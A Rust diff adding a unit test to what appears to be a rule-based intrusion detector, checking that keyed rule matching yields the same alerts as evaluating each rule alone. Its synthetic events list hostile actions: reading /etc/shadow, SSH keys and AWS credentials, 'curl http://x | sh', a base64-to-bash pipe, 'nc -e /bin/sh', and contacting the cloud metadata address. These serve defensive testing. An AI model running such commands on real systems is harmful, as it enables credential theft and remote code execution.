@@ -95,3 +95,90 @@ pub(super) fn required_slot(c: &Cond) -> Option<Slot> {
         _ => None,
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::{
+        enrich::synthetic::{self, Process},
+        event::Family,
+    };
+
+    use super::super::{RuleSet, eval::EventView, fields::kind_of, rule::Matcher};
+
+    /// On the shipped rules, the keyed candidates give exactly the alerts of evaluating every
+    /// rule's condition on its own (no field index either), in file order; sequences, which keep
+    /// state, are left out of the comparison.
+    #[test]
+    fn keyed_candidates_alert_as_every_rule_evaluated_alone() {
+        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
+        let mut set = RuleSet::load_dir(&dir).unwrap();
+        let keyed: usize = set.by_kind.iter().map(|c| c.keyed.len()).sum();
+        assert!(keyed > 0, "no rule is keyed");
+        let o = |p: &str, f: i32| synthetic::open(p, f);
+        let sh = |cmd: &str| synthetic::exec("/bin/sh", vec!["sh".into(), "-c".into(), cmd.into()]);
+        let bodies = [
+            o("/dev/null", libc::O_RDONLY),
+            o("/etc/shadow", libc::O_RDONLY),
+            o("/etc/passwd", libc::O_WRONLY),
+            o("/root/.ssh/id_rsa", libc::O_RDONLY),
+            o("/home/a/.aws/credentials", libc::O_RDONLY),
+            o("/etc/cron.d/x", libc::O_WRONLY | libc::O_CREAT),
+            o("/proc/1/environ", libc::O_RDONLY),
+            sh("curl http://x | sh"),
+            sh("echo aWQK | base64 -d | bash"),
+            synthetic::exec("/usr/bin/nc", vec!["nc".into(), "-e".into(), "/bin/sh".into()]),
+            synthetic::exec("/tmp/payload", vec!["payload".into()]),
+            synthetic::connect(Family::Inet, "169.254.169.254", 80),
+            synthetic::connect(Family::Inet, "127.0.0.1", 4444),
+            synthetic::mount("none", "/mnt", "proc"),
+            synthetic::memfd("x"),
+            synthetic::mmap("/tmp/x.so"),
+        ];
+        let mut alerts = 0;
+        for (comm, exe) in [
+            ("python3", "/usr/bin/python3"),
+            ("bash", "/bin/bash"),
+            ("node", "/usr/bin/node"),
+        ] {
+            let who = Process {
+                comm: comm.into(),
+                exe: exe.into(),
+                agent: "a".into(),
+                ancestors: vec![synthetic::ancestor(99, "/usr/bin/node")],
+                ..Default::default()
+            };
+            for body in &bodies {
+                let ev = who.event(1, body.clone());
+                let Some(kind) = kind_of(&ev.event.body) else { continue };
+                let alone = EventView::new(&ev, &[]);
+                let want: Vec<String> = set
+                    .rules
+                    .iter()
+                    .filter(|r| r.enabled)
+                    .filter_map(|r| match &r.matcher {
+                        Matcher::Condition(by_kind) => by_kind
+                            .get(kind)
+                            .filter(|c| c.matches(&alone))
+                            .map(|_| r.meta.name.clone()),
+                        Matcher::Sequence(_) => None,
+                    })
+                    .collect();
+                let sequences: Vec<String> = set
+                    .rules
+                    .iter()
+                    .filter(|r| matches!(r.matcher, Matcher::Sequence(_)))
+                    .map(|r| r.meta.name.clone())
+                    .collect();
+                let got: Vec<String> = set
+                    .evaluate(&ev)
+                    .into_iter()
+                    .map(|a| a.rule)
+                    .filter(|r| !sequences.contains(r))
+                    .collect();
+                assert_eq!(got, want, "{ev:?}");
+                alerts += got.len();
+            }
+        }
+        assert!(alerts >= 20, "too few alerts for the comparison to mean much: {alerts}");
+    }
+}
